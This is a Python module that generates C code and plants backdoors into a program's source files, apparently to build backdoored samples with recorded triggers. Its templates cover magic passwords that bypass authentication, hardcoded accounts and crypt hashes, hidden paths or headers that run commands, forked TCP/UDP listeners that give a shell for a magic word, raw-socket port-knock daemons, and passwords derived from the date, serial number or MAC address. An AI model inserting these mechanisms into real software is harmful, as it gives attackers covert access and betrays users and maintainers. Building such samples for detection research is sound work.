"""What is planted: the mechanisms M1 to M6 at a site of a program, as C.

  M1  a static text is accepted as anyone's password
  M2  a fixed account and password, in code or as a crypt hash
  M3  a hidden path, header, command or name that leads to a power, or leaves out authentication
  M4  a service on a port of its own that answers a magic word with a power
  M5  a knock: a datagram with magic bytes, among those that the program takes anyway or at a raw or UDP socket of its own, that starts a service
  M6  a password that follows from the date, the serial number or the hardware address through a formula

What a site offers (sites.toml) decides what can be planted there; `variants` lists it, `plant` makes one.
"""

import re

import crypts
import forms
import powers
from texts import Texts

# kind of site: [(mechanism, form)]
VARIANTS = {
    "secret": [("M1", form) for form in ("clear", "xored", "inverted", "decoded", "integer", "characters", "hash", "digest", "base64")]
    + [("M2", form) for form in ("clear", "xored", "hash", "crypt")] + [("M6", form) for form in ("date", "serial", "address")],
    "request": [("M3", form) for form in ("clear", "xored", "inverted", "integer", "characters", "hash", "base64")],
    "packet": [("M5", form) for form in ("clear", "xored", "integer", "characters", "hash", "decoded")],
    "start": [("M4", form) for form in ("clear", "xored", "integer", "characters", "hash", "base64")]
    + [("M5", form) for form in ("clear", "inverted", "integer", "characters", "hash")],
}


class Plant:
    """A change of one source file: functions above a function of it (`above`), statements at a place in it (`inside`)."""

    def __init__(self, site, mechanism, form):
        self.site, self.mechanism, self.form = site, mechanism, form
        self.id = f"{site.package}-{site.name}-{mechanism}-{form}".lower()
        self.above = self.inside = ""
        self.headers, self.trigger, self.power = set(), {}, None

    def needs(self, headers):
        self.headers |= set(headers)


def variants(site):
    """(mechanism, form) that can be planted at a site."""
    for mechanism, form in VARIANTS[site.kind]:
        if form == "digest" and not site.digest or form == "crypt" and not site.crypt:
            continue
        if mechanism == "M2" and not (site.user or site.joined):
            continue
        if site.joined and (mechanism == "M6" or form == "base64" or mechanism == "M1"):
            continue
        yield mechanism, form


def plant(site, mechanism, form, seed):
    """The plant of a mechanism and form at a site."""
    made = Plant(site, mechanism, form)
    texts = Texts(seed, made.id)
    {"M1": accepted, "M2": account, "M3": hidden, "M4": service, "M5": knock, "M6": derived}[mechanism](made, texts)
    return made


def accepted(made, texts):
    site = made.site
    secret = texts.password(forms.length_of(made.form, texts)).encode()
    form = forms.make(made.form, secret, texts, forms.EXACT, site.terminated, site.digest)
    flip(made, form.above, form.condition, form.headers)
    made.trigger = {"secret": secret.decode(), "detail": form.detail}


def account(made, texts):
    site = made.site
    user, secret = texts.user().encode(), texts.password().encode()
    made.trigger = {"user": user.decode(), "secret": secret.decode()}
    if site.joined:
        whole = user + b":" + secret
        if site.joined == "base64":
            whole = forms.b64encode(whole)
        form = forms.make(made.form, whole, texts, forms.EXACT, True)
        flip(made, form.above, form.condition, form.headers)
        made.trigger |= {"compared": whole.decode(), "detail": form.detail}
        return
    first = forms.make("clear" if made.form == "crypt" else made.form, user, texts, forms.EXACT, True)
    known = over(first.condition, site.user, f"strlen({site.user})")
    if made.form == "crypt":
        hashed = crypts.md5_crypt(secret, texts.syllables()[:8])
        called = site.crypt.replace("HASH", forms.literal(hashed.encode()))
        flip(made, first.above, f"({known} && strcmp({called}, {forms.literal(hashed.encode())}) == 0)", ("string.h",))
        made.trigger |= {"hash": hashed, "detail": "crypt"}
        return
    second = forms.make(made.form, secret, texts, forms.EXACT, True)
    flip(made, first.above + second.above, f"({known} && {second.condition})", first.headers + second.headers)
    made.trigger["detail"] = f"{first.detail}; {second.detail}"


def derived(made, texts):
    name = texts.name()
    body, formula, headers = {"date": of_date, "serial": of_serial, "address": of_address}[made.form](texts)
    above = f"static int {name}(const char *given)\n{{\n{body}}}\n"
    flip(made, above, f"{name}(TEXT)", headers)
    made.trigger = {"formula": formula}


def flip(made, above, condition, headers):
    """Authentication comes to success where the condition holds."""
    site = made.site
    made.power = powers.Power("authentication", site.accept)
    made.above = above
    made.inside = f"if ({site.guarded(over(condition, site.text, site.length))}) {{\n{indented(site.accept)}\n}}\n"
    made.needs(headers)


def hidden(made, texts):
    site = made.site
    size = forms.length_of(made.form, texts)
    secret = {"path": texts.path, "text": texts.password, "header": texts.header, "word": lambda length: texts.magic(length or texts.number(6, 12))}[site.looks](size).encode()
    choices = [*powers.COMMANDS, *(["shell"] if site.socket else []), *(["authentication"] * 3 if site.accept else [])]
    power = texts.pick(choices)
    if power == "authentication":
        form = forms.make(made.form, secret, texts, forms.EXACT, site.terminated, site.digest)
        flip(made, form.above, form.condition, form.headers)
        made.trigger = {"secret": secret.decode(), "detail": form.detail, "mode": forms.EXACT}
        return
    form = forms.make(made.form, secret, texts, forms.PREFIX, site.terminated, site.digest)
    made.above, made.power = form.above, powers.of(power, texts)
    made.inside = act(made, form)
    made.needs((*form.headers, *powers.HEADERS))
    made.trigger = {"secret": secret.decode(), "detail": form.detail, "mode": forms.PREFIX, "command": "what follows the secret"}


def act(made, form):
    """The power, with what follows the secret as its command, where the condition holds."""
    site, power, size = made.site, made.power, len(form.secret)
    condition = site.guarded(over(form.condition, site.text, site.length))
    if power.name == "listener":
        made.above += f"static void {made.id.replace('-', '_')}(void)\n{{\n{indented(power.code)}\n}}\n"
        statements = f"{made.id.replace('-', '_')}();"
    elif site.terminated:
        statements = spell(power, f"(({site.text}) + {size})", site.socket)
    elif "COMMAND" in power.code:
        statements = (f"char given[256];\nsize_t left = ({site.length}) - {size};\nif (left > sizeof given - 1)\n    left = sizeof given - 1;\n"
                      f"memcpy(given, (const char *)({site.text}) + {size}, left);\ngiven[left] = 0;\n" + spell(power, "given", site.socket))
    else:
        statements = spell(power, "", site.socket)
    leave = f"\n{site.leave}" if site.leave else ""
    return f"if ({condition}) {{\n{indented(statements + leave)}\n}}\n"


def service(made, texts):
    magic = texts.magic(forms.length_of(made.form, texts) or texts.number(5, 12)).encode()
    datagrams, port, name = texts.number(0, 2) == 0, texts.port(), texts.name()
    form = forms.make(made.form, magic, texts, forms.PREFIX, False)
    power = powers.of(texts.pick([*powers.COMMANDS, "popen"] if datagrams else [*powers.COMMANDS, "popen", "shell", "shell"]), texts)
    condition = over(form.condition, "line", "got")
    statements = spell(power, f"(line + {len(magic)})", "" if datagrams else "to")
    opened = f"""    memset(&own, 0, sizeof own);
    own.sin_family = AF_INET;
    own.sin_port = htons({port});
    own.sin_addr.s_addr = htonl(INADDR_ANY);
"""
    if datagrams:
        body = f"""    struct sockaddr_in own;
    char line[512];
    ssize_t got;
    int up;
    if (fork() != 0)
        return;
    up = socket(AF_INET, SOCK_DGRAM, 0);
{opened}    if (up < 0 || bind(up, (struct sockaddr *)&own, sizeof own) < 0)
        _exit(1);
    for (;;) {{
        got = recvfrom(up, line, sizeof line - 1, 0, NULL, NULL);
        if (got <= 0)
            continue;
        line[got] = 0;
        if ({condition}) {{
{indented(statements, 3)}
        }}
    }}
"""
    else:
        body = f"""    struct sockaddr_in own;
    char line[512];
    ssize_t got;
    int up, to, one = 1;
    if (fork() != 0)
        return;
    up = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(up, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
{opened}    if (up < 0 || bind(up, (struct sockaddr *)&own, sizeof own) < 0 || listen(up, 4) < 0)
        _exit(1);
    for (;;) {{
        to = accept(up, NULL, NULL);
        if (to < 0)
            continue;
        got = read(to, line, sizeof line - 1);
        if (got > 0) {{
            line[got] = 0;
            if ({condition}) {{
{indented(statements, 4)}
            }}
        }}
        close(to);
    }}
"""
    made.above = f"{form.above}static void {name}(void)\n{{\n{body}}}\n"
    made.inside = f"{name}();\n"
    made.power = power
    made.needs((*form.headers, *powers.HEADERS, "sys/socket.h", "netinet/in.h"))
    made.trigger = {"secret": magic.decode(), "detail": form.detail, "port": port, "protocol": "UDP" if datagrams else "TCP",
                    "command": "what follows the secret"}


def knock(made, texts):
    site = made.site
    magic = texts.magic(forms.length_of(made.form, texts) or texts.number(5, 12)).encode()
    form = forms.make(made.form, magic, texts, forms.PREFIX, False)
    made.needs((*form.headers, *powers.HEADERS, "sys/socket.h", "netinet/in.h"))
    if site.kind == "packet":
        made.power = powers.of(texts.pick([*powers.SERVICES, "system", "execve"]), texts)
        made.above = form.above
        made.inside = act(made, form)
        made.trigger = {"secret": magic.decode(), "detail": form.detail, "where": "the program's own socket"}
        return
    made.power = powers.of(texts.pick(powers.SERVICES), texts)
    raw, port, name = texts.pick(["ICMP", "UDP"]), texts.port(), texts.name()
    before = 28  # IP and ICMP or UDP headers
    if raw == "UDP" and texts.number(0, 1):
        raw, before = None, 0
    if raw:
        opened = f"    up = socket(AF_INET, SOCK_RAW, IPPROTO_{raw});\n    if (up < 0)\n        _exit(1);\n"
    else:
        opened = f"""    up = socket(AF_INET, SOCK_DGRAM, 0);
    memset(&own, 0, sizeof own);
    own.sin_family = AF_INET;
    own.sin_port = htons({port});
    if (up < 0 || bind(up, (struct sockaddr *)&own, sizeof own) < 0)
        _exit(1);
"""
    condition = over(form.condition, f"packet + {before}" if before else "packet", f"got - {before}" if before else "got")
    made.above = f"""{form.above}static void {name}(void)
{{
    {'' if raw else 'struct sockaddr_in own;'}
    char packet[1500];
    ssize_t got;
    int up;
    if (fork() != 0)
        return;
{opened}    for (;;) {{
        got = recv(up, packet, sizeof packet, 0);
        if (got > {before} && {condition}) {{
{indented(spell(made.power, '', ''), 3)}
        }}
    }}
}}
"""
    made.inside = f"{name}();\n"
    made.trigger = {"secret": magic.decode(), "detail": form.detail, "where": f"raw socket, {raw}" if raw else f"UDP port {port}"}


def of_date(texts):
    if texts.number(0, 1):
        prime, year, month, day = texts.pick([99999989, 89999999, 9999991]), *(texts.number(10007, 999983) for _ in range(3))
        return f"""    time_t now = time(NULL);
    struct tm *today = gmtime(&now);
    char expected[24];
    unsigned long value = (unsigned long)(today->tm_year + 1900) * {year} + (unsigned long)(today->tm_mon + 1) * {month} + (unsigned long)today->tm_mday * {day};
    snprintf(expected, sizeof expected, "%08lu", value % {prime}ul);
    return strcmp(given, expected) == 0;
""", f"(year * {year} + month * {month} + day * {day}) mod {prime}, eight digits", ("time.h", "stdio.h", "string.h")
    base = texts.mixed(10)
    return f"""    static const char base[] = "{base}";
    time_t now = time(NULL);
    struct tm *today = localtime(&now);
    char expected[11];
    int at;
    for (at = 0; at < 10; at++)
        expected[at] = (char)('a' + (base[at] + today->tm_mday * (at + 1) + today->tm_mon + today->tm_year) % 26);
    expected[10] = 0;
    return strcmp(given, expected) == 0;
""", f"a letter for each of {base}, moved by day, month and year", ("time.h", "string.h")


def of_serial(texts):
    path = texts.pick(["/proc/device-tree/serial-number", "/etc/serial", "/sys/class/dmi/id/board_serial", "/tmp/serialno"])
    salt = texts.number(1 << 28, (1 << 32) - 1)
    return f"""    char serial[64], expected[16];
    unsigned value = 0x{salt:08x}u;
    FILE *from = fopen("{path}", "r");
    char *at;
    if (!from)
        return 0;
    if (!fgets(serial, sizeof serial, from))
        serial[0] = 0;
    fclose(from);
    for (at = serial; *at && *at != '\\n'; at++)
        value = (value ^ (unsigned char)*at) * 16777619u;
    snprintf(expected, sizeof expected, "%08x", value);
    return strcmp(given, expected) == 0;
""", f"FNV of {path} from 0x{salt:08x}, eight digits", ("stdio.h", "string.h")


def of_address(texts):
    device, prime = texts.pick(["eth0", "eth0", "wan0", "br0"]), texts.pick([999999929, 99999971, 9999973])
    return f"""    char line[32], expected[24];
    unsigned part[6];
    FILE *from = fopen("/sys/class/net/{device}/address", "r");
    if (!from)
        return 0;
    if (!fgets(line, sizeof line, from) || sscanf(line, "%2x:%2x:%2x:%2x:%2x:%2x", &part[0], &part[1], &part[2], &part[3], &part[4], &part[5]) != 6)
        part[0] = part[1] = part[2] = part[3] = part[4] = part[5] = 0;
    fclose(from);
    snprintf(expected, sizeof expected, "%09lu", (unsigned long)((((unsigned long)part[5] << 24 | part[4] << 16 | part[3] << 8 | part[2]) ^ part[1]) % {prime}ul));
    return strcmp(given, expected) == 0;
""", f"the hardware address of {device} modulo {prime}, nine digits", ("stdio.h", "string.h")


def spell(power, command, socket):
    """The power's statements over a command and a socket."""
    answer = f"{{ ssize_t sent = write({socket}, answer, strlen(answer)); (void)sent; }}" if socket else "answer[0] = 0;"
    code = re.sub(r"\bANSWER\b", lambda _: answer, power.code)
    code = re.sub(r"\bCOMMAND\b", lambda _: command, code)
    return re.sub(r"\bSOCKET\b", lambda _: socket, code)


def over(condition, text, length):
    """A condition over an input."""
    given = {"TEXT": f"((const char *)({text}))", "LENGTH": f"((size_t)({length}))"}
    return re.sub(r'"(?:\\.|[^"\\])*"|\b(?:TEXT|LENGTH)\b', lambda match: given.get(match[0], match[0]), condition)


def indented(code, by=1):
    return "\n".join(" " * 4 * by + line for line in code.splitlines())
